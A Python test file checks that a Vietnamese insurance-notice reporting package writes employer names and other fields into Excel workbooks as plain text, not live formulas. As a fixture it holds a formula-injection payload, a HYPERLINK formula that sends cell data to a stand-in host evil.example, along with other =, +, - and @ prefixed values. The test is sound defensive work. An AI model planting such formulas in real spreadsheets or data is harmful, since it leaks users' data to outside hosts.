"""Exports write data as text (issue 11, item 22): an employer named ``=HYPERLINK(...)`` is a
string cell in every workbook that shows it, never a live formula."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from baophu.reports.notice import NoticeData
from baophu.reports.notice_lists import write_list_xlsx
from baophu.reports.notice_xlsx import write_notice_xlsx, write_notices_workbook

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _notice(name: str) -> NoticeData:
    d = dt.date
    return NoticeData(
        employer_code="-DV01",
        employer_name=name,
        tax_code="+3600000001",
        address="@Ấp 1",
        officer_code="CB01",
        officer_name="=1+1",
        office_code="75BH01",
        office_name="=BHXH cơ sở",
        province_name="Đồng Nai",
        month=d(2025, 10, 1),
        month_end=d(2025, 10, 31),
        deadline=d(2025, 11, 30),
        reference_date=d(2025, 10, 31),
        declared_headcount=10,
        declared_wage_bill=50_000_000,
        opening_balance=0,
        due_bhxh_funds=1,
        due_bhyt=1,
        due_bhtn=1,
        due_bhtnld=1,
        due_total=4,
        adjustments=0,
        interest=0,
        paid=0,
        payments=0,
        closing_balance=4,
        late_amount=0,
        cum_interest=0,
        next_due_bhxh_funds=1,
        next_due_bhyt=1,
        next_due_bhtn=1,
        next_due_bhtnld=1,
        next_due_total=4,
        next_due_estimated=False,
        rule_version="test",
    )


def _no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


def _string_cells(path: Path) -> dict[str, str]:
    """Every cell's text, for cells that are strings (openpyxl marks formulas with "f")."""
    ws = load_workbook(path).active
    out = {}
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if cell.data_type == "s" and cell.value is not None:
                out[cell.coordinate] = str(cell.value)
    return out


def test_c12ts_notice_workbook_writes_the_employer_name_as_text(tmp_path: Path) -> None:
    path = tmp_path / "notice.xlsx"
    write_notice_xlsx(_notice(EVIL), path)
    _no_formula(path)
    texts = set(_string_cells(path).values())
    assert EVIL in texts
    assert {"-DV01", "+3600000001", "@Ấp 1", "=BHXH cơ sở"} <= texts
    # The intro sentence (merged across the page) starts with the office's name: still text.
    assert any(t.startswith("=BHXH cơ sở thông báo") for t in texts)


def test_notices_workbook_and_lists_write_names_as_text(tmp_path: Path) -> None:
    many = tmp_path / "notices.xlsx"
    write_notices_workbook([_notice(EVIL)], many, title="=TITLE()")
    _no_formula(many)
    assert {EVIL, "=TITLE()"} <= set(_string_cells(many).values())
    listed = tmp_path / "list.xlsx"
    columns = (("employer_name", "Tên đơn vị", 30.0), ("employer_code", "Mã đơn vị", 12.0))
    rows = [{"employer_name": EVIL, "employer_code": "-DV01"}]
    write_list_xlsx(rows, listed, title="@list", columns=columns, subtitle="+sub")
    _no_formula(listed)
    assert {EVIL, "-DV01", "@list", "+sub"} <= set(_string_cells(listed).values())
